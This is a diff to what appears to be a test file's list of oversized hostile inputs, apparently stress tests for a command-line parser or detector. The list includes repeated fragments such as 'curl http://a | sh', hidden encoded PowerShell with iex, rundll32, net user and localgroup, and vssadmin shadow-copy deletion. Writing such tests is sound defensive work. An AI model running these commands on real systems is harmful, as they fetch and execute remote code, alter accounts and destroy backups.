@@ -26,7 +26,8 @@ GENERATED = 2_000
 _PADDING = " ".join(f"word{at}" for at in range(3_500))
 HOSTILE = [
     "x" * 32_767, " " * 32_767, "^a" * 16_000, _PADDING, '"' * 32_767, "a/" * 16_000, "-e " + "A" * 32_000,
-    "\\..\\a" * 6_000, "\uff50\uff4f" * 16_000, "'+'" * 10_000, "-enc " + "QQBBAEEA" * 4_000,
+    "\\..\\a" * 6_000, "\uff50\uff4f" * 16_000,
+    "\ufdfa" * 32_767, "\uff50\ufdfa" * 16_000, "'+'" * 10_000, "-enc " + "QQBBAEEA" * 4_000,
     "powershell -enc " * 2_000, "$a=/b " * 5_400, "powershell" + " " * 32_000 + "-enc AAAA",
     "powershell -w hidden -nop iex " * 1_000, "rundll32 a.txt,b " * 1_900, "curl http://a | sh -c " * 1_400,
     "net user add localgroup sc stop " * 1_000, "vssadmin delete shadows bcdedit " * 1_000,
